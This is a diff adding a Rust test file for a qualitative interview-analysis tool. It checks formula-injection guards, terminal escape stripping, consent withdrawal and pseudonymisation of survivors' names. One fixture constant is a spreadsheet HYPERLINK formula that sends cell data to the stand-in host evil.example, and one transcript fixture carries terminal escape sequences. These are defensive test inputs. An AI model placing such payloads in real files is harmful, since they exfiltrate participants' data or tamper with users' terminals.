@@ -1,0 +1,833 @@
+//! Protecting participants: safe exports (formula cells, terminal escape
+//! sequences, owner-only output files).
+
+use crate::util::Study;
+
+const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?q="&E2,"Click here")"#;
+
+/// A study whose transcripts carry a spreadsheet formula and terminal
+/// escape sequences, as a hostile or careless transcript could.
+fn hostile() -> Study {
+    let s = Study::empty();
+    s.file(
+        "codebooks/main.yaml",
+        "\
+codebook: Safety
+themes:
+  - id: family
+    label: Family
+    codes:
+      - id: police
+        label: Goes to the police
+        match:
+          any: [policía, police, HYPERLINK]
+",
+    )
+    .file(
+        "transcripts/r01.txt",
+        &format!(
+            "\
+Entrevistadora: ¿Qué hizo su familia?
+R01: Mi mamá fue a la policía todos los días.
+
+{HYPERLINK}
+
+=1+1 dijo la policía
+"
+        ),
+    )
+    .file(
+        "transcripts/r02.txt",
+        "\
+Interviewer: What happened then?
+R02: The police\u{1b}]0;pwned\u{7}\u{1b}[2J never came back.\u{7}
+",
+    );
+    s.run(&["code"]).ok();
+    s
+}
+
+#[test]
+fn csv_cells_that_start_like_formulas_are_written_as_text() {
+    let s = hostile();
+    let quoted = format!("\"'{}\"", HYPERLINK.replace('"', "\"\""));
+    // The coding sheet a coder opens in a spreadsheet.
+    let sheet = s.run(&["sheet", "--coder", "ana"]).ok().to_string();
+    assert!(sheet.contains(&format!(",{quoted},h")), "{sheet}");
+    assert!(sheet.contains(",'=1+1 dijo la policía,h"), "{sheet}");
+    assert!(!sheet.contains(&format!(",{},", HYPERLINK.replace('"', "\"\""))));
+    // Quotes and the tidy export.
+    let quotes = s
+        .run(&["quote", "police", "--format", "csv"])
+        .ok()
+        .to_string();
+    assert!(quotes.contains(&format!(",{quoted}\n")), "{quotes}");
+    assert!(quotes.contains(",'=1+1 dijo la policía\n"), "{quotes}");
+    let export = s.run(&["export", "--format", "csv"]).ok().to_string();
+    assert!(export.contains(&quoted), "{export}");
+    assert!(!export.contains(",=1+1"), "{export}");
+    // Counts stay plain integers.
+    assert_eq!(
+        s.run(&["matrix", "--format", "csv"]).ok(),
+        "code,r01,r02,total\nfamily,3,1,4\nfamily/police,3,1,4\n"
+    );
+}
+
+#[test]
+fn a_coding_sheet_with_guarded_cells_reads_back() {
+    let s = hostile();
+    let sheet = s.run(&["sheet", "--coder", "ana"]).ok().to_string();
+    // The coder marks the formula-like excerpt and saves the sheet.
+    let marked: String = sheet
+        .lines()
+        .map(|l| {
+            if l.contains("'=1+1") {
+                format!("{l}x\n")
+            } else {
+                format!("{l}\n")
+            }
+        })
+        .collect();
+    s.file("codings/ana.csv", &marked);
+    let out = s.run(&["code"]);
+    out.ok();
+    assert!(!out.stderr.contains("warning"), "{}", out.stderr);
+}
+
+/// A path in the study folder for `--output`.
+fn out(s: &Study, name: &str) -> String {
+    s.path().join(name).display().to_string()
+}
+
+/// The cells of the first worksheet's XML that hold formulas (`<f>`).
+fn formulas(xlsx: &[u8]) -> Vec<String> {
+    use std::io::Read;
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
+    let mut xml = String::new();
+    zip.by_name("xl/worksheets/sheet1.xml")
+        .unwrap()
+        .read_to_string(&mut xml)
+        .unwrap();
+    xml.match_indices("<f>")
+        .map(|(i, _)| xml[i..].to_string())
+        .collect()
+}
+
+#[test]
+fn workbooks_hold_formula_like_quotes_as_text() {
+    let s = hostile();
+    s.run(&[
+        "matrix",
+        "--cell",
+        "quote",
+        "--width",
+        "200",
+        "--format",
+        "xlsx",
+        "--output",
+        &out(&s, "m.xlsx"),
+    ])
+    .ok();
+    let bytes = std::fs::read(s.path().join("m.xlsx")).unwrap();
+    assert_eq!(formulas(&bytes), Vec::<String>::new());
+    let rows = crate::util::sheet_rows(&bytes, "m.xlsx");
+    assert!(
+        rows.iter().flatten().any(|c| c.starts_with("Mi mamá")),
+        "{rows:?}"
+    );
+    s.run(&[
+        "sheet",
+        "--coder",
+        "ana",
+        "--format",
+        "xlsx",
+        "--output",
+        &out(&s, "ana.xlsx"),
+    ])
+    .ok();
+    let bytes = std::fs::read(s.path().join("ana.xlsx")).unwrap();
+    assert_eq!(formulas(&bytes), Vec::<String>::new());
+    let rows = crate::util::sheet_rows(&bytes, "ana.xlsx");
+    assert!(rows.iter().flatten().any(|c| c == HYPERLINK), "{rows:?}");
+    assert!(
+        rows.iter().flatten().any(|c| c == "=1+1 dijo la policía"),
+        "{rows:?}"
+    );
+}
+
+#[test]
+fn escape_sequences_in_transcripts_never_reach_the_terminal() {
+    let s = hostile();
+    for args in [
+        &["quote", "police"][..],
+        &["quote", "police", "--format", "markdown"],
+        &["search", "police"],
+        &["search", "police", "--format", "markdown"],
+        &["matrix", "--cell", "quote", "--width", "200"],
+        &[
+            "matrix", "--cell", "quote", "--width", "200", "--format", "markdown",
+        ],
+    ] {
+        let out = s.run(args);
+        let text = out.ok();
+        assert!(
+            !text.contains(['\u{1b}', '\u{7}']),
+            "{args:?} printed a control character: {text:?}"
+        );
+        assert!(text.contains("never came"), "{args:?}: {text}");
+    }
+    assert!(s
+        .run(&["quote", "police"])
+        .ok()
+        .contains("  The police never came back.\n"));
+    // JSON escapes them; scripts get the text as it is.
+    let json = s
+        .run(&["quote", "police", "--format", "json"])
+        .ok()
+        .to_string();
+    assert!(
+        json.contains(r"The police\u001b]0;pwned\u0007\u001b[2J never"),
+        "{json}"
+    );
+}
+
+#[test]
+fn error_messages_quoting_a_file_strip_escape_sequences() {
+    let s = hostile();
+    s.file(
+        "codings/ana.csv",
+        "id,fam\u{1b}[2Jily\ntranscripts/r01.txt:2,x\n",
+    );
+    let err = s.run(&["code"]);
+    assert_eq!(
+        err.bad_input().lines().next(),
+        Some("error: column `family` is not a code of the codebook")
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn output_files_are_readable_by_their_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    let s = hostile();
+    s.run(&["matrix", "--format", "csv", "--output", &out(&s, "m.csv")])
+        .ok();
+    s.run(&["export", "--format", "json", "--output", &out(&s, "e.json")])
+        .ok();
+    s.run(&["sheet", "--coder", "ana", "--output", &out(&s, "ana.csv")])
+        .ok();
+    for f in ["m.csv", "e.json", "ana.csv"] {
+        let mode = std::fs::metadata(s.path().join(f))
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o777, 0o600, "{f}");
+    }
+}
+
+/// Three interviews and a focus group; R07 is the one who will withdraw.
+fn consent() -> Study {
+    let s = Study::empty();
+    s.file(
+        "codebooks/main.yaml",
+        "\
+codebook: Family
+themes:
+  - id: family
+    label: Family
+    codes:
+      - id: support
+        label: Family support
+        match:
+          any: [apoy*, ayud*, support*]
+      - id: money
+        label: Money
+        match:
+          any: [dinero, plata, money]
+",
+    )
+    .file(
+        "transcripts/r01.txt",
+        "\
+---
+respondent: R01
+---
+Entrevistadora: ¿Quién la apoyó al volver?
+R01: Mi hermana me apoyó con dinero para el pasaje.
+",
+    )
+    .file(
+        "transcripts/r02.txt",
+        "\
+---
+respondent: R02
+---
+Interviewer: Who supported you?
+R02: Nobody supported me at first. Later my cousin helped with money.
+",
+    )
+    .file(
+        "transcripts/r07.txt",
+        "\
+---
+respondent: R07
+village: Inambari
+---
+Entrevistadora: ¿Quién la apoyó?
+R07: Me escondí en la panadería de doña Eulalia en Mazuko y ella me apoyó.
+
+Después me dio plata para el bus.
+",
+    )
+    .file(
+        "transcripts/fg01.txt",
+        "\
+---
+speakers: {Ana: R03, Rosa: R07}
+---
+Moderadora: ¿Quién las apoyó?
+Ana: Mi tía me apoyó cuando volví.
+Rosa: El chofer del camión azul de Quincemil me ayudó a escapar.
+",
+    )
+    .file(
+        "thematic.yaml",
+        "interviewer: [Interviewer, Entrevistadora, Moderadora]\n",
+    )
+    .file(
+        "respondents.csv",
+        "id,role,withdrawn\nR01,survivor,\nR02,survivor,no\nR03,relative,\nR07,survivor,\n",
+    );
+    s
+}
+
+/// Every text file of a zip package, one after the other.
+fn unzipped(bytes: &[u8]) -> String {
+    use std::io::Read;
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut all = String::new();
+    for i in 0..zip.len() {
+        let mut text = String::new();
+        if zip.by_index(i).unwrap().read_to_string(&mut text).is_ok() {
+            all.push_str(&text);
+        }
+    }
+    all
+}
+
+/// Whether any file under `.thematic/` holds `needle` (as bytes).
+fn in_derived_data(s: &Study, needle: &str) -> Vec<String> {
+    fn walk(dir: &std::path::Path, needle: &[u8], out: &mut Vec<String>) {
+        for e in std::fs::read_dir(dir).unwrap() {
+            let p = e.unwrap().path();
+            if p.is_dir() {
+                walk(&p, needle, out);
+            } else {
+                let bytes = std::fs::read(&p).unwrap();
+                if bytes.windows(needle.len()).any(|w| w == needle) {
+                    out.push(p.display().to_string());
+                }
+            }
+        }
+    }
+    let mut out = Vec::new();
+    walk(&s.path().join(".thematic"), needle.as_bytes(), &mut out);
+    out
+}
+
+/// Words only R07 said, and their village. (tantivy compresses its
+/// document store, so a whole phrase need not appear as such; each
+/// distinctive word does.)
+const R07_SAYS: [&str; 4] = ["Eulalia", "Mazuko", "Quincemil", "Inambari"];
+
+#[test]
+fn a_withdrawn_respondent_leaves_the_index_and_every_output() {
+    let s = consent();
+    s.run(&["code"]).ok();
+    // Before: R07's words are in the index (the check below can see them).
+    for needle in R07_SAYS {
+        assert!(!in_derived_data(&s, needle).is_empty(), "{needle}");
+    }
+    assert_eq!(
+        s.run(&["matrix", "--by", "role", "--format", "csv"]).ok(),
+        "code,relative,survivor,total\nfamily,1,3,4\nfamily/support,1,3,4\nfamily/money,0,3,3\n"
+    );
+    // Two coders marked every excerpt at `money`, R07's too.
+    let sheet = s
+        .run(&["sheet", "--coder", "ana", "--codes", "money"])
+        .ok()
+        .to_string();
+    let marked: String = sheet
+        .lines()
+        .enumerate()
+        .map(|(i, l)| {
+            if i == 0 {
+                format!("{l}\n")
+            } else {
+                format!("{l}x\n")
+            }
+        })
+        .collect();
+    s.file("codings/ana.csv", &marked);
+    s.file("codings/ben.csv", &marked.replace(",ana,", ",ben,"));
+    s.run(&["code"]).ok();
+    let agree = s.run(&["agree", "--format", "csv"]).ok().to_string();
+    assert!(agree.contains("family/money,6,"), "{agree}");
+    let consented = s
+        .run(&["matrix", "--by", "role", "--format", "csv"])
+        .ok()
+        .to_string();
+    // R07 withdraws consent.
+    s.replace("respondents.csv", "R07,survivor,", "R07,survivor,yes");
+    let code = s.run(&["code"]);
+    code.ok();
+    assert!(!code.stderr.contains("warning"), "{}", code.stderr);
+    let agree = s.run(&["agree", "--format", "csv"]).ok().to_string();
+    assert!(agree.contains("family/money,3,"), "{agree}");
+    assert!(
+        code.stderr.contains(
+            "note: 1 respondent who withdrew consent is withheld from every count, quote and export\n"
+        ),
+        "{}",
+        code.stderr
+    );
+    for needle in R07_SAYS {
+        assert_eq!(
+            in_derived_data(&s, needle),
+            Vec::<String>::new(),
+            "{needle}"
+        );
+    }
+    // Counts and group sizes without R07; Ana's turn in the focus group stays.
+    let matrix = s.run(&["matrix", "--by", "role", "--format", "csv"]);
+    assert_eq!(
+        matrix.ok(),
+        "code,relative,survivor,total\nfamily,1,2,3\nfamily/support,1,2,3\nfamily/money,1,2,3\n"
+    );
+    assert_eq!(
+        matrix.stderr,
+        "note: 1 respondent who withdrew consent is withheld from every count, quote and export\n"
+    );
+    assert!(s
+        .run(&["matrix", "--by", "role"])
+        .ok()
+        .contains("survivor (n=2)"));
+    let csv = s.run(&["matrix", "--format", "csv"]).ok().to_string();
+    assert_eq!(csv.lines().next(), Some("code,R01,R02,R03,total"));
+    s.run(&[
+        "export",
+        "--format",
+        "qdpx",
+        "--output",
+        &out(&s, "study.qdpx"),
+    ])
+    .ok();
+    let qdpx = unzipped(&std::fs::read(s.path().join("study.qdpx")).unwrap());
+    assert!(qdpx.contains("Mi tía me apoyó"));
+    let quotes = s
+        .run(&["quote", "support", "--format", "json"])
+        .ok()
+        .to_string();
+    assert!(quotes.contains("Mi tía me apoyó"), "{quotes}");
+    for out in [
+        qdpx,
+        quotes,
+        s.run(&["search", "Eulalia OR Quincemil OR chofer"])
+            .ok()
+            .to_string(),
+        s.run(&["export", "--format", "csv"]).ok().to_string(),
+        s.run(&["stats", "--format", "csv"]).ok().to_string(),
+        s.run(&["transcripts", "--format", "json"]).ok().to_string(),
+        s.run(&["sheet", "--coder", "ana"]).ok().to_string(),
+        s.run(&["cooccur", "--format", "csv"]).ok().to_string(),
+    ] {
+        assert!(!out.contains("R07"), "{out}");
+        assert!(
+            !out.contains("Eulalia") && !out.contains("Quincemil"),
+            "{out}"
+        );
+    }
+    // Consent given back: R07 returns.
+    s.replace("respondents.csv", "R07,survivor,yes", "R07,survivor,");
+    s.run(&["code"]).ok();
+    assert_eq!(
+        s.run(&["matrix", "--by", "role", "--format", "csv"]).ok(),
+        consented
+    );
+}
+
+#[test]
+fn withdrawn_in_settings_and_unknown_ids() {
+    let s = consent();
+    s.run(&["code"]).ok();
+    s.file(
+        "thematic.yaml",
+        "interviewer: [Interviewer, Entrevistadora, Moderadora]\nwithdrawn: [R07, R7]\n",
+    );
+    let code = s.run(&["code"]);
+    code.ok();
+    assert!(
+        code.stderr.contains(
+            "warning: thematic.yaml: `withdrawn:` names `R7`, a respondent the study does not have; did you mean `R07`?\n"
+        ),
+        "{}",
+        code.stderr
+    );
+    for needle in R07_SAYS {
+        assert_eq!(
+            in_derived_data(&s, needle),
+            Vec::<String>::new(),
+            "{needle}"
+        );
+    }
+    let out = s.run(&["quote", "family", "--format", "csv"]);
+    assert!(!out.ok().contains("R07"), "{}", out.stdout);
+    assert!(
+        out.stderr.contains("1 respondent who withdrew consent"),
+        "{}",
+        out.stderr
+    );
+}
+
+#[test]
+fn a_withdrawn_cell_that_is_neither_yes_nor_no_is_refused() {
+    let s = consent();
+    s.replace("respondents.csv", "R07,survivor,", "R07,survivor,maybe");
+    let err = s.run(&["code"]);
+    assert_eq!(
+        err.bad_input(),
+        "error: `maybe` is not a yes or no in the `withdrawn` column\n  --> respondents.csv:5:3\n  = help: write yes (or y, true, 1, x, sí) when the respondent withdrew consent, and leave it blank (or no, false, 0) otherwise\n"
+    );
+}
+
+const KEY: &str = "\
+# real text → replacement; matched like codebook terms
+- {find: [Rosa Quispe, Rosa], replace: \"[survivor, 19]\"}
+- {find: [Puerto Maldonado], replace: \"[a mining town]\"}
+- {find: [R02], replace: \"[P2]\"}
+- {find: [Huepetuhe], replace: \"[a river town]\"}
+";
+
+/// A study whose transcripts name a survivor and a town, with a key file.
+fn named() -> Study {
+    let s = Study::empty();
+    s.file(
+        "codebooks/main.yaml",
+        "\
+codebook: Return
+themes:
+  - id: return
+    label: Return
+    codes:
+      - id: support
+        label: Support on return
+        match:
+          any: [apoy*, support*, help*]
+",
+    )
+    .file(
+        "transcripts/r01.txt",
+        "\
+---
+respondent: R01
+---
+Entrevistadora: ¿Quién la apoyó cuando volvió de Puerto Maldonado?
+R01: Mi prima Rosa Quispe me apoyó. ROSA me buscó en PUERTO MALDONADO.
+",
+    )
+    .file(
+        "transcripts/r02.txt",
+        "\
+---
+respondent: R02
+---
+Interviewer: Who helped you?
+R02: The pastor helped me, and later rosa quispé supported my mother.
+",
+    )
+    .file("pseudonyms.yaml", KEY);
+    owner_only(&s, "pseudonyms.yaml");
+    s
+}
+
+fn owner_only(s: &Study, rel: &str) {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let p = s.path().join(rel);
+        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o600)).unwrap();
+    }
+    #[cfg(not(unix))]
+    let _ = (s, rel);
+}
+
+/// True when `out` names the survivor or the town, in any case or accent.
+fn identifies(out: &str) -> bool {
+    let folded = out.to_lowercase().replace('é', "e");
+    ["rosa", "quispe", "maldonado"]
+        .iter()
+        .any(|n| folded.contains(n))
+}
+
+#[test]
+fn pseudonyms_replace_names_in_every_output_for_people() {
+    let s = named();
+    s.run(&["code"]).ok();
+    let quote = s.run(&["quote", "support"]);
+    assert_eq!(
+        quote.ok(),
+        "\
+transcripts/r01.txt:5 — R01
+  codes: return/support
+  Mi prima [survivor, 19] me apoyó. [survivor, 19] me buscó en [a mining town].
+
+transcripts/r02.txt:5 — [P2]
+  codes: return/support
+  The pastor helped me, and later [survivor, 19] supported my mother.
+"
+    );
+    assert_eq!(quote.stderr, "");
+    let context = s.run(&["quote", "support", "--context", "--format", "markdown"]);
+    assert!(context
+        .ok()
+        .contains("**Q:** ¿Quién la apoyó cuando volvió de [a mining town]?"));
+    let mut outputs = vec![
+        ("quote", quote.stdout.clone()),
+        ("quote md", context.stdout.clone()),
+    ];
+    for args in [
+        &["quote", "support", "--format", "csv", "--context"][..],
+        &["quote", "support", "--format", "json"],
+        &["search", "pastor OR prima"],
+        &["search", "pastor OR prima", "--format", "csv"],
+        &["matrix", "--cell", "quote", "--width", "200"],
+        &["matrix", "--cell", "quote", "--format", "json"],
+        &["matrix", "--cell", "quote", "--format", "markdown"],
+        &["export", "--format", "csv"],
+        &["export", "--format", "json"],
+    ] {
+        let out = s.run(args).ok().to_string();
+        assert!(out.contains("[survivor, 19]"), "{args:?}: {out}");
+        outputs.push((args[0], out));
+    }
+    s.run(&[
+        "export",
+        "--format",
+        "qdpx",
+        "--output",
+        &out(&s, "study.qdpx"),
+    ])
+    .ok();
+    let qdpx = unzipped(&std::fs::read(s.path().join("study.qdpx")).unwrap());
+    assert!(qdpx.contains("[a mining town]"));
+    outputs.push(("qdpx", qdpx));
+    for (what, out) in &outputs {
+        assert!(!identifies(out), "{what} identifies: {out}");
+        assert!(!out.contains("R02"), "{what}: {out}");
+    }
+    // The matrix's respondent columns are renamed too.
+    assert!(s
+        .run(&["matrix", "--cell", "quote", "--width", "200"])
+        .ok()
+        .contains("[P2]"));
+    // Coding sheets show the originals unless asked.
+    let sheet = s.run(&["sheet", "--coder", "ana"]).ok().to_string();
+    assert!(sheet.contains("Mi prima Rosa Quispe me apoyó"), "{sheet}");
+    let sheet = s
+        .run(&["sheet", "--coder", "ana", "--pseudonymise"])
+        .ok()
+        .to_string();
+    assert!(!identifies(&sheet), "{sheet}");
+    assert!(sheet.contains(",R02,"), "{sheet}");
+    // --identified shows the originals, and says so.
+    let identified = s.run(&["quote", "support", "--identified"]);
+    assert!(identified
+        .ok()
+        .contains("Mi prima Rosa Quispe me apoyó. ROSA me buscó en PUERTO MALDONADO."));
+    assert_eq!(
+        identified.stderr,
+        "note: --identified: this output shows real names and places; keep it within the team\n"
+    );
+    assert!(identifies(s.run(&["export", "--identified"]).ok()));
+}
+
+#[test]
+fn the_pseudonyms_log_counts_each_term_and_names_the_excerpts() {
+    let s = named();
+    let log = s.run(&["pseudonyms", "log", "--format", "csv"]);
+    assert_eq!(
+        log.ok(),
+        "\
+term,replace,line,count,excerpts
+Rosa Quispe,\"[survivor, 19]\",2,2,transcripts/r01.txt:5;transcripts/r02.txt:5
+Rosa,\"[survivor, 19]\",2,1,transcripts/r01.txt:5
+Puerto Maldonado,[a mining town],3,2,transcripts/r01.txt:5
+R02,[P2],4,1,transcripts/r02.txt:5
+Huepetuhe,[a river town],5,0,
+"
+    );
+    assert!(
+        log.stderr
+            .contains("warning: pseudonyms.yaml:5: `Huepetuhe` matches nothing in the study; check its spelling\n"),
+        "{}",
+        log.stderr
+    );
+}
+
+#[test]
+fn the_leak_gate_refuses_an_export_that_still_identifies() {
+    let s = named();
+    s.file("thematic.yaml", "identifying: [village, phone]\n")
+        .file(
+            "respondents.csv",
+            "id,role,village,phone\nR01,survivor,Mazuko,+51 984 000 111\nR02,survivor,,\n",
+        )
+        .replace(
+            "transcripts/r02.txt",
+            "The pastor",
+            "The pastor from Mazuko",
+        );
+    s.run(&["code"]).ok();
+    let run = s.run(&["export", "--format", "csv"]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert_eq!(run.stdout, "");
+    assert_eq!(
+        run.stderr,
+        "error: the output would still identify participants (1 found; nothing written):\n  transcripts/r02.txt:5: `Mazuko`\n  = help: add these spellings to the pseudonym key file, or reword the replacement; `--identified` exports the originals for the team's own use\n"
+    );
+    // Never the text around it.
+    assert!(!run.stderr.contains("pastor"));
+    let run = s.run(&["export", "--format", "qdpx", "--output", &out(&s, "s.qdpx")]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert!(!s.path().join("s.qdpx").exists());
+    // Named in the key file, it passes; identifying columns are not exported.
+    s.file(
+        "pseudonyms.yaml",
+        &format!("{KEY}- {{find: [Mazuko], replace: \"[a village]\"}}\n"),
+    );
+    owner_only(&s, "pseudonyms.yaml");
+    let csv = s.run(&["export", "--format", "csv"]).ok().to_string();
+    assert!(
+        csv.starts_with("id,path,line,respondent,role,question,text,"),
+        "{csv}"
+    );
+    assert!(!csv.contains("Mazuko") && !csv.contains("984"), "{csv}");
+}
+
+#[test]
+fn bad_key_files_are_refused_and_readable_ones_warned_about() {
+    let s = named();
+    s.run(&["code"]).ok();
+    s.file(
+        "pseudonyms.yaml",
+        "- {find: [Rosa], replace: \"[a]\"}\n- {find: [], replace: \"[b]\"}\n",
+    );
+    owner_only(&s, "pseudonyms.yaml");
+    assert_eq!(
+        s.run(&["quote", "support"]).bad_input(),
+        "error: this entry's `find` is empty\n  --> pseudonyms.yaml:2\n  = help: list the names or places to replace, e.g. `find: [Rosa Quispe, Rosa]`\n"
+    );
+    s.file(
+        "pseudonyms.yaml",
+        "- {find: [Rosa], replace: \"[Rosa's cousin]\"}\n",
+    );
+    assert!(s
+        .run(&["export"])
+        .bad_input()
+        .starts_with("error: the replacement \"[Rosa's cousin]\" contains the find term `Rosa`\n  --> pseudonyms.yaml:1\n"));
+    s.file("pseudonyms.yaml", "- {find: [Rosa], replace: [x\n");
+    assert!(s
+        .run(&["quote", "support"])
+        .bad_input()
+        .contains("--> pseudonyms.yaml:"));
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        s.file("pseudonyms.yaml", KEY);
+        let p = s.path().join("pseudonyms.yaml");
+        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
+        let out = s.run(&["quote", "support"]);
+        out.ok();
+        assert!(out.stderr.contains(
+            "warning: pseudonyms.yaml can be read by other users of this computer; it holds real names: run `chmod 600 pseudonyms.yaml`\n"
+        ), "{}", out.stderr);
+    }
+}
+
+#[test]
+fn init_keeps_the_key_file_out_of_git() {
+    let dir = tempfile::tempdir().unwrap();
+    let study = dir.path().join("study");
+    let out = crate::util::run({
+        let mut c = crate::util::bin_command();
+        c.arg("init").arg(&study);
+        c
+    });
+    out.ok();
+    assert_eq!(
+        std::fs::read_to_string(study.join(".gitignore")).unwrap(),
+        ".thematic/\n# The pseudonym key file holds participants' real names and places:\n# keep it out of git (and readable by its owner only: chmod 600).\npseudonyms.yaml\n"
+    );
+}
+
+#[test]
+fn check_identifiers_lists_the_names_nothing_accounts_for() {
+    let s = named();
+    s.replace(
+        "transcripts/r02.txt",
+        "The pastor helped me",
+        "Pastor Huamán from Mazuko helped me in 2019, and Huepetuhe",
+    );
+    let out = s.run(&["check-identifiers", "--format", "csv"]);
+    assert_eq!(
+        out.ok(),
+        "excerpt,words\ntranscripts/r02.txt:5;Pastor;Huamán;Mazuko;2019\n".replacen(';', ",", 1)
+    );
+    assert!(out
+        .stderr
+        .ends_with("1 of 2 excerpts have words that no codebook term, key-file term or common word accounts for\n"));
+    // Once the key file has them, nothing is left.
+    s.file(
+        "pseudonyms.yaml",
+        &format!("{KEY}- {{find: [Pastor Huamán, Mazuko, \"2019\"], replace: \"[a pastor]\"}}\n"),
+    );
+    owner_only(&s, "pseudonyms.yaml");
+    assert_eq!(
+        s.run(&["check-identifiers", "--format", "csv"]).ok(),
+        "excerpt,words\n"
+    );
+}
+
+#[test]
+fn chart_summaries_in_the_matrix_are_pseudonymised() {
+    let s = named();
+    s.file(
+        "charts/R01.md",
+        "## return/support\nHer cousin Rosa Quispe took her in at Puerto Maldonado [transcripts/r01.txt:5].\n",
+    );
+    for args in [
+        &["matrix", "--cell", "summary", "--width", "200"][..],
+        &["matrix", "--cell", "summary", "--format", "json"],
+        &["matrix", "--cell", "summary", "--format", "markdown"],
+    ] {
+        let out = s.run(args).ok().to_string();
+        assert!(
+            out.contains("Her cousin [survivor, 19] took her in at [a")
+                && out.contains("mining town]"),
+            "{args:?}: {out}"
+        );
+        assert!(!identifies(&out), "{args:?}: {out}");
+    }
+    let out = s
+        .run(&[
+            "matrix",
+            "--cell",
+            "summary",
+            "--width",
+            "200",
+            "--identified",
+        ])
+        .ok()
+        .to_string();
+    assert!(out.contains("Rosa Quispe"), "{out}");
+}
